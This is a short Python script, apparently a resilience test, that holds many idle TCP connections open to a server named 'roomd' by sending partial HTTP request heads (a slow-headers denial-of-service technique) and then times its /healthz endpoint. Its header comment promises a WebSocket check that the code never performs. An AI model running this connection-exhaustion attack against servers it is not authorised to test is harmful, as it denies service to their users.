#!/usr/bin/env python3
# Opens N idle TCP sockets to roomd (sending a partial request head), then measures /healthz
# and a WebSocket upgrade during the attack and after the sockets close.
import asyncio, sys, time
HOST, PORT, N = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])

async def healthz(timeout=15):
    t = time.monotonic()
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(HOST, PORT), timeout)
        w.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = await asyncio.wait_for(r.read(100), timeout)
        w.close()
        return data.split(b"\r\n")[0].decode(), time.monotonic() - t
    except Exception as e:
        return f"fail: {type(e).__name__}", time.monotonic() - t

async def main():
    socks = []
    t0 = time.monotonic()
    for i in range(N):
        try:
            r, w = await asyncio.open_connection(HOST, PORT)
            w.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
            socks.append(w)
        except Exception as e:
            print("open failed at", i, e); break
    print(f"opened {len(socks)} sockets in {time.monotonic()-t0:.1f}s")
    await asyncio.sleep(1)
    print("during attack: healthz", await healthz())
    for w in socks:
        w.transport.abort()
    t = time.monotonic()
    status, took = await healthz()
    print(f"after close: healthz {status} in {took*1000:.0f} ms (since close {(time.monotonic()-t)*1000:.0f} ms)")

asyncio.run(main())
